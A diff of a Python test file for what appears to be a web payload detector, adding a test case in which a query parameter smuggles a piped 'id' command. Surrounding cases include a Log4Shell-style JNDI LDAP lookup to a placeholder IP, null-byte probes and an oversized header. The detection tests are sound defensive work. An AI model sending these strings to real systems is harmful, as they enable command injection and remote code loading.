@@ -83,6 +83,7 @@ def test_benign_variants_pass(detector: PayloadDetector) -> None:
         ({"query": "q=lamp&page=1&sort=price"}, "query", "query_manipulation"),
         ({"query": "q=lamp&page=1&page=2&page=3&sort=asc"}, "query", "query_manipulation"),
         ({"query": "q=lamp&page=1%00&sort=asc"}, "query", "query_manipulation"),
+        ({"query": "q=lamp+%7C+id&page=1&sort=asc"}, "query", "injection"),
         ({"path": "/v1/items/%00", "query": None}, "path", "probing"),
         ({"user_agent": "${jndi:ldap://203.0.113.7:1389/a}"}, "user_agent", "header_manipulation"),
         ({"user_agent": "A" * 4000}, "user_agent", "header_manipulation"),
